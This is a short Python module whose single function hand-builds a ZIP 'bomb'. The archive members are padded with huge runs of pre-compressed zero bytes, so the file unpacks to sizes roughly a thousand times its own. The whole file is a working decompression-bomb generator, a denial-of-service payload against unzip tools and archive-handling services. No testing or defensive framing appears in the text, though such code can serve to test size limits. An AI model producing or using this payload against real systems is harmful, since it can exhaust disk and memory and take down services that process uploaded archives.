"""ZIP archives that are larger than they look."""

from __future__ import annotations

import struct
import zlib


def bomb(members: dict[str, bytes], zeros: int) -> bytes:
    """A ZIP archive whose members go on with so many zero bytes, in a thousandth of the space."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = 2**20
    repeated = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = repeated.compress(bytes(piece)) + repeated.flush(zlib.Z_FULL_FLUSH)
    parts, directory, offset = [], [], 0
    for name, head in members.items():
        stream = deflate.copy()
        data = stream.compress(head) + stream.flush(zlib.Z_FULL_FLUSH) + chunk * (zeros // piece) + b"\x03\x00"
        size = min(len(head) + zeros // piece * piece, 2**32 - 2)
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, 0, len(data), size, len(name), 0)
        parts.append(b"PK\x03\x04" + fields + name.encode() + data)
        directory.append(
            b"PK\x01\x02" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, offset) + name.encode()
        )
        offset += len(parts[-1])
    listed = b"".join(directory)
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(listed), offset, 0)
    return b"".join(parts) + listed + end
